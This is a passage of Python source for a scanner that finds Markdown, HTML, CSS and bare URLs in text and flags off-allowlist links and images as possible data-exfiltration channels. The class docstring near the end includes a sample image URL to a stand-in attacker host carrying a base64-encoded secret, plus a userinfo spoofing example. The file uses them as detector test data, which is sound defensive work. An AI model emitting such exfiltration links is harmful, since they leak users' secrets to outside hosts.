                hit = _Hit("autolink", pos, m.end(), (m.group(1),), fetch=False, partial=not m.group(2))
                hit.trigger = (pos, "&lt;")
                hits.append(hit)
                pos = following
                continue
            lax = _AUTOLINK_LAX.match(text, pos, min(n, pos + window))
            if lax is not None:  # "<https://a b>": a link for Python-Markdown
                hit = _Hit("autolink", pos, lax.end(), (lax.group(1),), fetch=False)
                hit.trigger = (pos, "&lt;")
                hits.append(hit)
                pos = following
                continue
        c = text[pos + 1] if pos + 1 < n else ""
        if not (c.isascii() and c.isalpha()):
            pos = following
            continue
        if hints is None:
            hints = _url_attr_hints(text)
        later = bisect_right(hints, pos) < len(hints)
        near_end = n - pos <= window
        if not later and (open_at_end or not near_end):
            # No attribute that can carry a URL follows, and no tag to hold back: nothing to judge.
            pos = following
            continue
        limit = n if near_end else pos + window
        if budget <= 0:
            if later:  # too many overlapping tags to read them all: judged unread
                hit = _Hit("html tag", pos, pos + 2, (), fetch=True)
                hit.note = "too complex"
                hit.trigger = (pos, "&lt;")
                hits.append(hit)
            pos = following
            continue
        tm = _TAG_NAME.match(text, pos, limit)
        if tm is None or (not later and tm.group(1).lower() not in _URL_TAGS):
            budget -= 0 if tm is None else tm.end() - pos
            pos = following
            continue
        tag, attrs, end = _read_tag(text, pos, limit)
        budget -= (end if end >= 0 else limit) - pos
        urls, fetch = _tag_urls(tag, attrs)
        if end < 0 and limit < n:
            # Still open after `window` characters: where it ends is unknown, and an attribute
            # carrying a URL may follow.
            if urls or bisect_right(hints, limit - 40) < len(hints):
                hit = _Hit(_html_form(tag), pos, tm.end(), tuple(urls), fetch=True)
                hit.note = "unterminated"
                hit.trigger = (pos, "&lt;")
                hits.append(hit)
        elif end < 0:
            # Still open at the end of the text. Report it (so a stream holds it until it is
            # complete) when it already carries a URL attribute, or when it is a tag that can carry
            # one and is short enough to be a tag still being written, not a stray "<" in prose.
            if any(name in _URL_ATTRS for name, _ in attrs) or (tag in _URL_TAGS and near_end):
                hit = _Hit(
                    _html_form(tag),
                    pos,
                    n,
                    tuple(urls),
                    fetch=fetch or tag in _FETCH_TAGS,
                    partial=True,
                )
                hit.trigger = (pos, "&lt;")
                hits.append(hit)
                open_at_end = True
        else:
            note = None
            if tag == "style":  # the style sheet's own URLs: @import "...", image-set("...")
                stop = min(n, end + window)
                close = _STYLE_END.search(text, end, stop)
                found = _css_urls(text[end : stop if close is None else close.start()])
                urls.extend(found)
                fetch = fetch or bool(found)
                if close is None and stop < n:
                    note = "unterminated"
            if urls or note:
                hit = _Hit(_html_form(tag), pos, end, tuple(urls), fetch=fetch or bool(note))
                hit.note = note
                hit.trigger = (pos, "&lt;")
                hits.append(hit)
        pos = following


def _bare_starts(text: str) -> list[int]:
    """Offsets where a bare URL may start: ``http(s)://`` and ``ftp://`` schemes, ``www.`` and
    ``//`` (protocol-relative, as linkify reads it), not preceded by an ASCII letter or digit.
    Found with ``str.find``, which is much faster than letting a case-insensitive pattern try
    every offset."""
    lower = text.lower() if not text.islower() else text
    found = []
    i = lower.find("//")
    while i >= 0:
        if i > 0 and text[i - 1] == ":":
            for scheme in ("https", "http", "ftp"):
                start = i - 1 - len(scheme)
                if start >= 0 and lower.startswith(scheme, start):
                    if start == 0 or not (text[start - 1].isascii() and text[start - 1].isalnum()):
                        found.append(start)
                    break
        elif (i == 0 or not (text[i - 1].isalnum() or text[i - 1] in "/_")) and not lower.startswith(
            "/", i + 2
        ):
            found.append(i)
        i = lower.find("//", i + 2)
    i = lower.find("www.")
    while i >= 0:
        if i == 0 or not (text[i - 1].isascii() and text[i - 1].isalnum()):
            found.append(i)
        i = lower.find("www.", i + 4)
    found.sort()
    return found


def _covered_by(spans: list[tuple[int, int]]) -> tuple[list[int], list[int]]:
    """Starts and running maximum of ends of *spans* (sorted): "is an offset inside any span" is
    then one bisect."""
    starts = [s for s, _ in spans]
    reach: list[int] = []
    top = -1
    for _, e in spans:
        top = max(top, e)
        reach.append(top)
    return starts, reach


def _inside(index: tuple[list[int], list[int]], offset: int) -> bool:
    starts, reach = index
    i = bisect_right(starts, offset) - 1
    return i >= 0 and reach[i] > offset


class _TagUrls:
    """The URLs of the HTML tags found, by where they lie: a bare URL or ``url(...)`` that is one
    of them is not reported twice."""

    __slots__ = ("index", "spans")

    def __init__(self) -> None:
        self.spans: dict[str, list[tuple[int, int]]] = {}
        self.index: dict[str, tuple[list[int], list[int]]] = {}

    def add(self, hit: _Hit) -> None:
        for raw in hit.urls:
            url = raw.strip()
            for key in {url, url.rstrip(_TRAILING + ")")}:
                self.spans.setdefault(key, []).append((hit.start, hit.end))

    def has(self, url: str, start: int) -> bool:
        if not self.spans:
            return False
        for key in {url, _decode_entities(url)}:
            index = self.index.get(key)
            if index is None:
                if key not in self.spans:
                    continue
                index = self.index[key] = _covered_by(sorted(self.spans[key]))
            if _inside(index, start):
                return True
        return False


def _scan_css(text: str, hits: list[_Hit], index: tuple[list[int], list[int]], tags: _TagUrls) -> None:
    """``url(...)`` outside the constructs found so far (a style sheet in a ``<style>`` element,
    or one streamed after its tag): judged as an image when it names a host."""
    for m in _CSS_URL.finditer(text):
        start = m.start(2)
        if _inside(index, start) or tags.has(m.group(2), start):
            continue
        urls = tuple(dict.fromkeys((m.group(2), _css_unescape(m.group(2)))))
        if any(_HOSTFUL.match(url) for url in urls):
            hits.append(_Hit("css url", start, m.end(2), urls, fetch=True))


def _scan_bare(text: str, hits: list[_Hit], index: tuple[list[int], list[int]], tags: _TagUrls) -> None:
    last_end = -1
    for start in _bare_starts(text):
        if start < last_end or _inside(index, start):
            continue
        if text[start] == "/" and _PROTOCOL_RELATIVE.match(text, start) is None:
            continue
        m = _BARE_REST.match(text, start)
        if m is None:  # pragma: no cover - the pattern matches the empty string
            continue
        # A bracket may end the URL for linkify, which then finds the next one in the rest.
        last_end = _linkify_end(text, start, m.end())
        url = m.group()
        # Trailing punctuation is not part of the URL (GFM rules), nor an unbalanced ')'.
        while url:
            last = url[-1]
            if last in _TRAILING or (last == ")" and url.count(")") > url.count("(")):
                url = url[:-1]
            else:
                break
        if (len(url) <= 4 and url.lower().startswith("www.")) or tags.has(url, start):
            continue
        fetch = _CSS_URL_BEFORE.search(text, max(0, start - 16), start) is not None
        if url[:4].lower() == "www.":
            hits.append(_Hit("bare url", start, start + len(url), ("http://" + url,), fetch=fetch))
        else:
            hits.append(_Hit("bare url", start, start + len(url), (url,), fetch=fetch))


def _scan(text: str, window: int) -> tuple[list[_Hit], list[_Hit]]:
    """Every link-like construct in *text*, as a forest: hits inside another hit's link text
    (an image inside a link, a URL shown as link text) are its children. Hits that overlap
    another one's markup or destination (an image that a bare URL runs into, a tag in another
    tag's attribute) come back separately, as the second list: they are judged like the others,
    and neutralized where they start.

    Reference-style images (``![alt][label]``) are hits without URLs; their URL lives in the
    definition, which is a hit of its own.
    """
    hits: list[_Hit] = []
    usages: list[_Usage] = []
    unsure_label = False
    if "]" in text:
        unsure_label = _scan_brackets(text, hits, usages, window)
        _scan_definitions(text, hits)
    if "<" in text:
        _scan_angles(text, hits, window)
    lower = text.lower()
    css = "url(" in lower and _CSS_URL.search(text) is not None
    if css or "//" in text or "www." in lower:
        spans: list[tuple[int, int]] = []
        tags = _TagUrls()
        for hit in hits:
            if hit.form.startswith("html"):
                # A tag hides no URL: escaped, in code or not valid for a renderer, it is text
                # that a linkifier reads. Only the URLs already judged as its own are skipped.
                tags.add(hit)
                continue
            end = hit.end if hit.cover_end < 0 else hit.cover_end
            if hit.text_start >= 0:  # link text is text: URLs shown there are judged too
                spans.append((hit.start, hit.text_start))
                spans.append((hit.text_end, max(hit.text_end, end)))
            else:
                spans.append((hit.start, end))
        if css:
            spans.sort()
            before = len(hits)
            _scan_css(text, hits, _covered_by(spans), tags)
            spans.extend((hit.start, hit.end) for hit in hits[before:])
        spans.sort()
        _scan_bare(text, hits, _covered_by(spans), tags)
    image_labels = {u.label for u in usages if u.image}
    loose_images = {_loose_label(label) for label in image_labels}
    link_labels = {u.label for u in usages if not u.image}
    for hit in hits:
        if hit.form == "reference definition":
            # Judged as an image when an image uses it, or when no use is visible at all (it may
            # lie outside the text checked, e.g. earlier in a stream).
            label = hit.label or ""
            image = unsure_label or label in image_labels or _loose_label(label) in loose_images
            hit.fetch = image or label not in link_labels
            if image:
                hit.form = "reference definition (image)"
    for u in usages:
        if u.image:
            hit = _Hit(
                "reference image",
                u.start,
                u.end,
                (),
                fetch=True,
                text_span=(u.text_start, u.text_end),
                label=u.label,
            )
            hit.trigger = (u.text_start - 1, "\\[")
            hits.append(hit)
    return _nest(hits)


#: Deepest nesting of links in link text that is followed; deeper constructs are flagged whole.
_MAX_DEPTH = 32


def _nest(hits: list[_Hit]) -> tuple[list[_Hit], list[_Hit]]:
    """Attach hits inside another hit's link text to it; set apart hits overlapping markup."""
    hits.sort(key=lambda h: (h.start, -h.end))
    roots: list[_Hit] = []
    overlapping: list[_Hit] = []
    stack: list[_Hit] = []
    for hit in hits:
        while stack and hit.start >= stack[-1].end:
            stack.pop()
        if not stack:
            roots.append(hit)
            stack.append(hit)
            continue
        parent = stack[-1]
        if parent.text_start <= hit.start and hit.end <= parent.text_end:
            if len(stack) >= _MAX_DEPTH:
                parent.deep = True  # judged and replaced as a whole, children unseen
                continue
            parent.children.append(hit)
            stack.append(hit)
        else:
            # It overlaps the parent's destination or markup (or runs past its end): a renderer
            # may still see it, so it is judged on its own.
            overlapping.append(hit)
    return roots, overlapping


# --------------------------------------------------------------------------------------------
# Judging
# --------------------------------------------------------------------------------------------


def _normalize_host(host: str) -> str:
    """Lowercase ASCII form of a host, as a browser would resolve it (best effort)."""
    if "%" in host:
        host = _percent_decode(host)
    if not host.isascii() or not host.isprintable():
        host = _IGNORABLE.sub("", host)
        host = unicodedata.normalize("NFKC", host).translate(_DOTS)
    host = host.lower().rstrip(".")
    if host.isascii():
        return host
    labels = []
    for label in host.split("."):
        if label.isascii():
            labels.append(label)
        else:
            try:
                labels.append("xn--" + label.encode("punycode").decode("ascii"))
            except UnicodeError:
                labels.append(label)
    return ".".join(labels)


def _ipv4(host: str) -> str | None:
    """Dotted form of *host* when a browser would read it as an IPv4 address, else ``None``."""
    parts = host.split(".")
    if not parts or not _IPV4_PART.fullmatch(parts[-1]):
        return None
    if len(parts) > 4:
        return "invalid"
    numbers = []
    for part in parts:
        if not _IPV4_PART.fullmatch(part):
            return "invalid"
        try:
            if part[:2].lower() == "0x":
                numbers.append(int(part[2:] or "0", 16))
            elif len(part) > 1 and part[0] == "0":
                numbers.append(int(part, 8))
            else:
                numbers.append(int(part))
        except ValueError:
            return "invalid"
    value = 0
    for number in numbers[:-1]:
        if number > 255:
            return "invalid"
        value = value * 256 + number
    rest = 4 - (len(numbers) - 1)
    if numbers[-1] >= 256**rest:
        return "invalid"
    value = value * 256**rest + numbers[-1]
    return ".".join(str((value >> shift) & 255) for shift in (24, 16, 8, 0))


def _scripts(host: str) -> set[str]:
    found = set()
    for char in host:
        if char.isalpha() and not char.isascii():
            try:
                found.add(unicodedata.name(char).split(" ", 1)[0])
            except ValueError:
                found.add("UNKNOWN")
        elif char.isalpha():
            found.add("LATIN")
    return found


def _decode_punycode(host: str) -> str:
    try:
        return ".".join(
            label[4:].encode("ascii").decode("punycode") if label.startswith("xn--") else label
            for label in host.split(".")
        )
    except UnicodeError:
        return host


def _mixed_script(host: str) -> bool:
    scripts = _scripts(host)
    if len(scripts) <= 1:
        return False
    return not any(scripts <= allowed for allowed in _SCRIPT_SETS)


def _looks_encoded(value: str, limit: int) -> bool:
    """Whether *value* holds a hex, base32 or base64-like run of at least *limit* characters.

    Base64 runs must mix digits, upper and lower case; lower-case runs (base32, DNS labels)
    must hold at least four digits. Words, UUIDs and slugs do not qualify.
    """
    if len(value) < limit:
        return False
    for m in _HEX_RUN.finditer(value):
        if m.end() - m.start() >= limit:
            return True
    for m in _B64_RUN.finditer(value):
        run = m.group()
        if len(run) < limit:
            continue
        digits = sum(c.isdigit() for c in run)
        if digits and any(c.isupper() for c in run) and any(c.islower() for c in run):
            return True
        if digits >= 4 and "-" not in run and (run.islower() or run.isupper()):
            return True
    return False


class _Rules:
    """Precomputed allowlists and the judging logic shared by ``Links`` and ``SafeMarkdown``."""

    __slots__ = (
        "_cached",
        "any_host",
        "any_image_host",
        "domains",
        "image_domains",
        "image_schemes",
        "max_length",
        "max_query_data",
        "schemes",
    )

    def __init__(
        self,
        *,
        allow_domains: Iterable[str] | None,
        image_domains: Iterable[str] | None,
        allow_schemes: Iterable[str],
        max_query_data: int,
        max_length: int,
    ) -> None:
        _compile()
        self.schemes = _check_schemes(allow_schemes)
        self.image_schemes = self.schemes & _FETCH_SCHEMES
        if allow_domains is None:
            self.any_host, self.domains = True, frozenset[str]()
        else:
            self.any_host, self.domains = _check_domains(allow_domains, "allow_domains")
        if image_domains is None:
            self.any_image_host = False if allow_domains is None else self.any_host
            self.image_domains = self.domains
        else:
            self.any_image_host, self.image_domains = _check_domains(image_domains, "image_domains")
        if isinstance(max_query_data, bool) or not isinstance(max_query_data, int):
            raise ConfigError("max_query_data must be an int")
        if max_query_data < 8:
            raise ConfigError("max_query_data must be at least 8")
        if isinstance(max_length, bool) or not isinstance(max_length, int) or max_length < 64:
            raise ConfigError("max_length must be an int of at least 64")
        self.max_query_data = max_query_data
        self.max_length = max_length
        # Streams re-check the held-back window with every chunk, so the same URLs come back:
        # judgments depend only on (url, fetch) and these settings, never change, and are cached.
        self._cached = functools.lru_cache(maxsize=1024)(self._judge_url)

    @staticmethod
    def _matches(host: str, domains: frozenset[str]) -> bool:
        if host in domains:
            return True
        dot = host.find(".")
        while dot >= 0:
            if host[dot + 1 :] in domains:
                return True
            dot = host.find(".", dot + 1)
        return False

    def judge_url(self, raw: str, *, fetch: bool) -> tuple[str, ...]:
        """Reasons *raw* may not stay (empty when it may)."""
        return self._cached(raw, fetch)

    def _judge_url(self, raw: str, fetch: bool) -> tuple[str, ...]:
        reasons = self._judge_url_list(raw, fetch=fetch)
        return tuple(reasons)

    def _judge_url_list(self, raw: str, *, fetch: bool) -> list[str]:
        reasons: list[str] = []
        if len(raw) > self.max_length:
            reasons.append("too long")
        if not raw.isprintable() or " " in raw:
            reasons.append("control characters")
        url = _TAB_NL.sub("", raw.strip(_C0_SPACE))
        m = _SCHEME.match(url)
        if m is not None:
            scheme = m.group(1).lower()
            rest = url[m.end() :]
            if scheme not in (self.image_schemes if fetch else self.schemes):
                reasons.append("scheme not allowed")
                return reasons
            if scheme in _SPECIAL:
                rest = rest.lstrip("/\\")
            elif rest.startswith("//"):
                rest = rest[2:]
            else:
                return reasons  # mailto:, tel: ... carry no host to judge
        elif url[:2] in ("//", "\\\\", "/\\", "\\/"):
            rest = url.lstrip("/\\")
        else:
            return reasons  # relative: resolves against the page's own origin
        self._judge_authority(rest, fetch=fetch, reasons=reasons)
        return reasons

    def _judge_authority(self, rest: str, *, fetch: bool, reasons: list[str]) -> None:
        cut = len(rest)
        for delimiter in "/\\?#":
            i = rest.find(delimiter)
            if 0 <= i < cut:
                cut = i
        authority, tail = rest[:cut], rest[cut:]
        if "@" in authority:
            reasons.append("userinfo")
            authority = authority.rpartition("@")[2]
        raw_host = authority
        if authority.startswith("["):
            host = authority[: authority.find("]") + 1] if "]" in authority else authority
            ip: str | None = host.lower()
        else:
            host = raw_host = authority.split(":", 1)[0]
            if "%" in host:
                reasons.append("encoded host")
            host = _normalize_host(host)
            ip = _ipv4(host)
        domains = self.image_domains if fetch else self.domains
        any_host = self.any_image_host if fetch else self.any_host
        explicit = False
        if ip is not None:
            explicit = ip != "invalid" and ip in domains
            if not explicit:
                reasons.append("ip address host")
        elif host:
            explicit = self._matches(host, domains)
        if not explicit and ip is None:
            if not any_host:
                reasons.append("image host not allowed" if fetch else "host not allowed")
            if any(label.startswith("xn--") for label in host.split(".")):
                reasons.append("punycode host")
                if _mixed_script(_decode_punycode(host)):
                    reasons.append("mixed-script host")
            if any_host and any(_looks_encoded(label, self.max_query_data) for label in raw_host.split(".")):
                reasons.append("encoded data")
        if (fetch or (any_host and not explicit)) and "?" in tail:
            self._judge_query(tail, fetch=fetch, reasons=reasons)

    def _judge_query(self, tail: str, *, fetch: bool, reasons: list[str]) -> None:
        """Flag encoded data in the query string, and (for images) URLs nested in it."""
        query = tail.split("?", 1)[1].split("#", 1)[0]
        if "%" in query or "+" in query:
            query = _percent_decode(query.replace("+", " "))
        for part in _QUERY_SPLIT.split(query):
            value = part.partition("=")[2] or part
            if _looks_encoded(value, self.max_query_data):
                reasons.append("encoded data")
                return
            if fetch and _NESTED_URL.match(value.strip()):
                reasons.append("redirect")
                return

    def judge(self, hit: _Hit) -> tuple[str, ...]:
        """Set and return the reasons *hit* may not stay."""
        reasons: list[str] = []
        if hit.partial:
            reasons.append("incomplete")
        if hit.note is not None:
            reasons.append(hit.note)
        if hit.deep:
            reasons.append("nested too deeply")
        if hit.end - hit.start > self.max_length:
            reasons.append("too long")
        markdown = not hit.form.startswith(("html", "bare", "css"))
        for raw in hit.urls:
            for url in _url_variants(raw, markdown=markdown):
                for reason in self.judge_url(url, fetch=hit.fetch):
                    if reason not in reasons:
                        reasons.append(reason)
        hit.reasons = tuple(reasons)
        return hit.reasons


def _check_schemes(schemes: Iterable[str]) -> frozenset[str]:
    if isinstance(schemes, str):
        raise ConfigError("allow_schemes must be a collection of scheme names, not one string")
    out = set()
    for scheme in schemes:
        if not isinstance(scheme, str) or not re.fullmatch(r"[A-Za-z][A-Za-z0-9+.\-]*", scheme):
            raise ConfigError(f"allow_schemes: {scheme!r} is not a URL scheme name")
        out.add(scheme.lower())
    return frozenset(out)


def _check_domains(domains: Iterable[str], argument: str) -> tuple[bool, frozenset[str]]:
    _compile()
    if isinstance(domains, str):
        raise ConfigError(f"{argument} must be a collection of host names, not one string")
    any_host = False
    out = set()
    for domain in domains:
        if not isinstance(domain, str) or not domain.strip():
            raise ConfigError(f"{argument}: expected non-empty host names, got {domain!r}")
        entry = domain.strip()
        if entry == "*":
            any_host = True
            continue
        if entry.startswith("*."):
            raise ConfigError(
                f"{argument}: write {entry[2:]!r}, not {entry!r}: an entry already covers its subdomains"
            )
        if any(c in entry for c in "/?#@ ") or "://" in entry:
            raise ConfigError(f"{argument}: expected a host name like 'example.com', got {entry!r}")
        if entry.startswith("["):
            out.add(entry.lower())
            continue
        if ":" in entry:
            out.add("[" + entry.lower() + "]")
            continue
        host = _normalize_host(entry)
        ip = _ipv4(host)
        if ip == "invalid":
            raise ConfigError(f"{argument}: {entry!r} is neither a host name nor an IP address")
        out.add(ip or host)
    return any_host, frozenset(out)


def _check_action(action: str) -> str:
    try:
        parsed = Action.parse(action)
    except ValueError:
        raise ConfigError(f"action must be 'block', 'redact' or 'warn', got {action!r}") from None
    if parsed is Action.ALLOW:
        raise ConfigError("action must be 'block', 'redact' or 'warn', got 'allow'")
    return str(parsed)


def _check_name(name: str) -> str:
    if not isinstance(name, str) or not name:
        raise ConfigError("name must be a non-empty string")
    return name


def _walk(hits: Sequence[_Hit]) -> Iterable[_Hit]:
    for hit in hits:
        yield hit
        if hit.children:
            yield from _walk(hit.children)


class Links:
    """Flag links and images that point off the allowlist or look like a data-exfiltration channel.

    Finds Markdown inline links and images (``[t](u)``, ``![a](u)``), reference-style links and
    images with their definitions (``[t][r]`` + ``[r]: u``), autolinks (``<https://...>``), raw
    HTML tags carrying URLs (``<a href>``, ``<img src>``, ``srcset``, ``style="...url()"``,
    ``<meta http-equiv=refresh>``), style sheets (``url(...)``) and bare URLs (``https://...``,
    ``www.``, ``//host/...``). Images, and anything else a browser fetches without a click, are
    reported as ``EXFIL_IMAGE``; other links as ``UNSAFE_LINK``. ``Finding.detail`` names the form
    and the reasons, never the URL. Where renderers read the same text differently (brackets in a
    code span or a tag, HTML comments, Python-Markdown's looser syntax), every reading is judged.

    Host rules: an entry ``example.com`` allows ``example.com`` and every subdomain
    (``docs.example.com``), never ``badexample.com`` or ``example.com.evil.net``; matching is
    case-insensitive, ignores the port and a trailing dot, and compares IDNA (``xn--``) forms.
    ``"*"`` allows any host. IP-literal hosts (v4 in any browser-accepted form, v6) are allowed
    only when listed exactly. Relative URLs resolve against the page's own origin and are allowed.

    Also flagged, whatever the host: userinfo (``https://trusted.example@evil.example``), control
    or invisible characters, percent-encoded hosts and URLs longer than *max_length*. Flagged
    unless the host is listed explicitly: punycode and mixed-script hosts. Image URLs, and links
    allowed only through ``"*"``, are also flagged for base64- or hex-like query values of
    *max_query_data* characters or more (and images for URLs nested in their query).

    Streaming: a Markdown link or image whose destination is still open at the end of the text
    (``![x](https://evil.exa``), an HTML tag still open, or an autolink still open is reported
    as incomplete, so a stream holds it until it closes. A bare URL or reference definition at the
    end is judged as it stands. ``window`` equals *max_length*: no judged construct is longer.

    Args:
        allow_domains: Hosts links may point to; ``None`` (the default) allows any host.
        allow_schemes: URL schemes links may use. Images may use only ``http``/``https`` of these.
        image_domains: Hosts images may load from. By default the *allow_domains* list, or no
            host at all when *allow_domains* is ``None``.
        max_query_data: Shortest base64/hex-like query value reported as encoded data.
        max_length: Longest URL judged (and ``window``); longer ones are flagged.
        action: Default action for findings: ``"redact"``, ``"block"`` or ``"warn"``.
        name: Rule name reported in findings.

    Raises:
        ConfigError: An argument is malformed.

    >>> links = Links(allow_domains=["docs.python.org"])
    >>> [f.kind for f in links.check("![x](https://evil.example/p.png?q=c2VjcmV0IGtleTogMTIz)")]
    ['EXFIL_IMAGE']
    >>> links.check("See [the tutorial](https://docs.python.org/3/tutorial/).")
    ()

    .. versionadded:: 0.1
    """

    __slots__ = ("_rules", "action", "name", "window")

    def __init__(
        self,
        *,
        allow_domains: Iterable[str] | None = None,
        allow_schemes: Iterable[str] = ("https", "http", "mailto"),
        image_domains: Iterable[str] | None = None,
        max_query_data: int = 32,
        max_length: int = DEFAULT_MAX_LENGTH,
        action: str = "redact",
        name: str = "links",
    ) -> None:
        self._rules = _Rules(
            allow_domains=allow_domains,
            image_domains=image_domains,
            allow_schemes=allow_schemes,
            max_query_data=max_query_data,
            max_length=max_length,
        )
        self.action = _check_action(action)
        self.name = _check_name(name)
        self.window: int | None = max_length

    def __repr__(self) -> str:
        rules = self._rules
        domains = "any" if rules.any_host else sorted(rules.domains)
        images = "any" if rules.any_image_host else sorted(rules.image_domains)
        return (
            f"Links(allow_domains={domains!r}, image_domains={images!r}, "
            f"allow_schemes={sorted(rules.schemes)!r}, max_query_data={rules.max_query_data}, "
            f"action={self.action!r}, name={self.name!r})"
        )

    def check(self, text: str, /) -> Sequence[Finding]:
        """Return a finding per link or image that may not stay, ``()`` when all may."""
        if not isinstance(text, str):
            raise TypeError(f"{type(self).__name__}.check() takes a str, got {type(text).__name__}")
        quick = "]" not in text and "<" not in text and "//" not in text and "(" not in text
        if quick and not _WWW.search(text):
            return ()
        roots, overlapping = _scan(text, self._rules.max_length)
        found = []
        for hit in (*_walk(roots), *overlapping):
            reasons = self._rules.judge(hit)
            if reasons:
                found.append(
                    Finding(
                        self.name,
                        "EXFIL_IMAGE" if hit.fetch else "UNSAFE_LINK",
                        hit.start,
                        hit.end,
                        detail=f"{hit.form}: {', '.join(reasons)}",
                    )
                )
        if not found:
            return ()
        found.sort(key=lambda f: (f.start, f.end))
        return tuple(found)
